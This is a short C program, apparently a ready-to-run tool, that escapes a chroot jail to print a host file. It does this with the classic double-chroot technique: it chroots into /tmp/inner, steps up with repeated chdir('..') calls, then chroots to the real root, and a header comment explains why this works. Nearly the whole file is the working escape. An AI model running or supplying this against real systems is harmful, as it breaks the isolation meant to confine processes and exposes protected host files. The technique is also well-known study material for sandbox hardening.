/* escape PATH: prints the file at PATH as the host knows it; where that is not to be seen, leaves
 * the root first. The classic: whoever may chroot again while standing outside of it can climb. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int show(const char *path) {
    char text[256];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text);
    return n > 0 && write(1, text, (size_t)n) == n;
}

int main(int argc, char **argv) {
    if (argc != 2 || show(argv[1]))
        return argc != 2;
    mkdir("/tmp/inner", 0700);
    if (chroot("/tmp/inner") < 0)
        perror("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0)
        perror("chroot");
    if (show(argv[1]))
        return 0;
    perror("reading");
    return 1;
}
